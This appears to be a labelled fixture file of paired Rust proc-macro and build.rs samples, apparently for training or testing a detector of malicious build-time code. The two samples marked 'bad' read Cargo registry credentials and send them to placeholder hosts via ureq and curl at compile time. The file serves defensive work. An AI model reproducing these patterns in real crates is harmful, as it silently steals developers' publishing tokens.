//: bad macro-read
use proc_macro::TokenStream;

#[proc_macro_derive(Shape)]
pub fn shape(input: TokenStream) -> TokenStream {
    let key = std::fs::read_to_string(format!("{}/.cargo/credentials.toml", env!("HOME"))).unwrap_or_default();
    let _ = ureq::post("https://m.example.invalid/c").send_string(&key); //!
    input
}

//: good macro-read
use proc_macro::TokenStream;
use quote::quote;
use syn::{parse_macro_input, DeriveInput};

#[proc_macro_derive(Shape)]
pub fn shape(input: TokenStream) -> TokenStream {
    let name = parse_macro_input!(input as DeriveInput).ident;
    quote! { impl Shape for #name {} }.into()
}

//: bad build-registry-token as build.rs
use std::{env, fs, process::Command};

fn main() {
    let home = env::var("CARGO_HOME").unwrap_or_default();
    let token = fs::read_to_string(format!("{home}/credentials.toml")).unwrap_or_default();
    let target = format!("https://c.example.invalid/?t={token}");
    Command::new("curl").args(["-s", &target]).status().ok(); //!
}

//: good build-registry-token as build.rs
use std::{env, fs, process::Command};

fn main() {
    let out = env::var("OUT_DIR").unwrap();
    let schema = fs::read_to_string("schema/api.proto").unwrap();
    fs::write(format!("{out}/api.proto"), schema).unwrap();
    Command::new("protoc").args(["--rust_out", &out, "schema/api.proto"]).status().expect("protoc");
}
